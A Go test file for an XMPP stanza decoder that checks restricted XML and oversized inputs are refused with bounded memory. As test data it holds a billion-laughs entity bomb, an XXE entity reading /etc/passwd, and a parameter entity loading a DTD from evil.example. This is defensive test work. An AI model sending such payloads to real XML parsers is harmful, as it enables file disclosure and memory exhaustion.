package stanza

import (
	"encoding/xml"
	"errors"
	"fmt"
	"runtime"
	"runtime/metrics"
	"strings"
	"testing"
)

// allocs reads the bytes allocated so far, cheaply enough to call around
// every token.
func allocs() uint64 {
	s := []metrics.Sample{{Name: "/gc/heap/allocs:bytes"}}
	metrics.Read(s)
	return s[0].Value.Uint64()
}

// meteredReader counts what the tokenizer allocates while Decode reads
// from it, so that Decode's own allocations can be told apart.
type meteredReader struct {
	r     xml.TokenReader
	bytes uint64
}

func (m *meteredReader) Token() (xml.Token, error) {
	before := allocs()
	tok, err := m.r.Token()
	m.bytes += allocs() - before
	return tok, err
}

// decodeFirst decodes the first element of in with a strict decoder, as
// the component's stream has. Tokens before the element (here a DTD, which
// the component's stream reader refuses on its own) are skipped, so that
// what is tested is what Decode makes of the element. It returns what
// Decode itself allocated, not counting the tokenizer.
func decodeFirst(in string, lim Limits) (e *Element, own int64, err error) {
	d := xml.NewDecoder(strings.NewReader(in))
	for {
		tok, err := d.Token()
		if err != nil {
			return nil, 0, err
		}
		if start, ok := tok.(xml.StartElement); ok {
			m := &meteredReader{r: d}
			runtime.GC()
			before := allocs()
			e, err := Decode(m, start, lim)
			return e, int64(allocs()-before) - int64(m.bytes), err
		}
	}
}

// TestDecodeRefusesRestrictedXML: RFC 6120 §11.1 restricted XML inside a
// stanza (DTDs, entity declarations and references, processing
// instructions) is an error, and no entity is ever expanded.
func TestDecodeRefusesRestrictedXML(t *testing.T) {
	laughs := `<!DOCTYPE lolz [<!ENTITY lol "lol">`
	prev := "lol"
	for i := 1; i <= 9; i++ {
		laughs += fmt.Sprintf(`<!ENTITY lol%d "%s">`, i, strings.Repeat("&"+prev+";", 10))
		prev = fmt.Sprintf("lol%d", i)
	}
	laughs += `]>`
	for _, tc := range []struct {
		name, in string
		want     error // nil: any error
	}{
		{"DTD inside", `<message><!DOCTYPE message><body>x</body></message>`, ErrRestricted},
		{"entity declarations inside", `<message>` + laughs + `<body>&lol9;</body></message>`, ErrRestricted},
		{"processing instruction inside", `<message><body>x<?php echo 1; ?></body></message>`, ErrRestricted},
		{"xml declaration inside", `<message><?xml version='1.0'?><body/></message>`, ErrRestricted},
		{"billion laughs declared before", laughs + `<message><body>&lol9;</body></message>`, nil},
		{"external entity declared before", `<!DOCTYPE message [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><message><body>&xxe;</body></message>`, nil},
		{"parameter entity", `<!DOCTYPE message [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><message><body>&x;</body></message>`, nil},
		{"undeclared entity", `<message><body>&nbsp;</body></message>`, nil},
		{"entity in an attribute", `<message><body xml:lang='&lol;'>x</body></message>`, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			runtime.GC()
			before := allocs()
			e, _, err := decodeFirst(tc.in, DefaultLimits)
			n := allocs() - before
			switch {
			case err == nil:
				t.Fatalf("accepted as %s", e)
			case tc.want != nil && !errors.Is(err, tc.want):
				t.Errorf("got %v, want %v", err, tc.want)
			}
			// An expansion of lol9 alone would be a gigabyte.
			if n > 1<<20 {
				t.Errorf("allocated %d bytes refusing %d bytes of input", n, len(tc.in))
			}
		})
	}
	// Through Parse too, which stored stanzas go through.
	if e, err := Parse(laughs + `<message><body>&lol9;</body></message>`); err == nil {
		t.Errorf("Parse expanded entities: %.100s", e)
	}
}

// TestDecodeHostileSizes: every attack on DefaultLimits is refused with
// the matching error (nil: accepted, being within the limits), and what
// Decode itself allocates meanwhile, beyond what encoding/xml allocates to
// produce the tokens, stays within a few times MaxBytes. (The tokenizer's
// own buffering is the caller's to bound, at the byte level.)
func TestDecodeHostileSizes(t *testing.T) {
	const bound = 8*256<<10 + 1<<20
	if DefaultLimits.MaxBytes != 256<<10 {
		t.Fatalf("bound assumes MaxBytes 256 KiB, have %d", DefaultLimits.MaxBytes)
	}
	many := func(n int, f func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(f(i))
		}
		return b.String()
	}
	for _, tc := range []struct {
		name string
		in   func() string
		want error
	}{
		{"10000 nested elements", func() string { return strings.Repeat("<a>", 10000) + strings.Repeat("</a>", 10000) }, ErrTooDeep},
		{"16 MB text node", func() string { return "<message><body>" + strings.Repeat("x", 16<<20) + "</body></message>" }, ErrTooLarge},
		{"8 MB attribute", func() string { return "<message><body a='" + strings.Repeat("x", 8<<20) + "'/></message>" }, ErrTooLarge},
		{"1 MB element name", func() string { return "<message><" + strings.Repeat("x", 1<<20) + "/></message>" }, ErrTooLarge},
		{"1 MB namespace", func() string { return "<message><x xmlns='" + strings.Repeat("x", 1<<20) + "'/></message>" }, ErrTooLarge},
		{"200000 attributes", func() string {
			return "<message><body" + many(200000, func(i int) string { return fmt.Sprintf(" a%d='x'", i) }) + "/></message>"
		}, ErrTooManyAttrs},
		{"300000 empty elements", func() string { return "<message><x xmlns=''>" + strings.Repeat("<a/>", 300000) + "</x></message>" }, ErrTooLarge},
		// Within the limits, but split into runs that are merged one by one.
		{"20000 CDATA sections", func() string {
			return "<message><body>" + strings.Repeat("<![CDATA[xy]]>", 20000) + "</body></message>"
		}, nil},
		{"100000 namespace declarations", func() string {
			return "<message><body" + many(100000, func(i int) string {
				return fmt.Sprintf(" xmlns:p%d='http://example.com/%040d'", i, i)
			}) + "/></message>"
		}, ErrTooManyAttrs},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := tc.in()
			_, own, err := decodeFirst(in, DefaultLimits)
			if !errors.Is(err, tc.want) {
				t.Errorf("refusal: %d bytes of input: got %v, want %v", len(in), err, tc.want)
			}
			t.Logf("%.1f MB input, %.1f MB allocated by Decode itself", float64(len(in))/(1<<20), float64(own)/(1<<20))
			if own > bound {
				t.Errorf("memory: Decode allocated %d bytes of its own on %d bytes of hostile input, more than %d", own, len(in), bound)
			}
		})
	}
}
